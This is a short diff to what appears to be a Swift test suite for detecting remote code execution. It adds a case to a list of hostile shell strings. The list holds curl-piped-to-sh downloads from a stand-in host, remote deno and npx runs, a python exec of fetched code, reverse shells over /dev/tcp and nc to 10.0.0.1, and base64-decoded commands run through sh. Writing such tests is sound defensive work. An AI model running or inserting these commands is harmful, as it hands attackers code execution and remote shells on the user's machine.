@@ -21,7 +21,8 @@ struct RemoteCodeTests {
       "curl x.example/a > a.sh && sh a.sh", "deno run -A https://x.example/a.ts", "npx -y https://x.example/a.tgz",
       "python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example').read())\"",
       "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 4444",
-      "echo \"curl https://x.example/a | sh\" | bash", "echo \"$(curl -s x.example/a | sh)\"",
+      "echo 'curl x.example/a | sh'\ncurl x.example/b | sh", "echo \"curl https://x.example/a | sh\" | bash",
+      "echo \"$(curl -s x.example/a | sh)\"",
       "echo \"curl x.example/a | sh\" > a.sh", "echo \"now\"; curl x.example/a | sh", "run \"curl x.example/a | sh\"",
       "echo aGk= | base64 -d | sh", "bash -c \"$(echo aGk= | base64 --decode)\"",
     ])
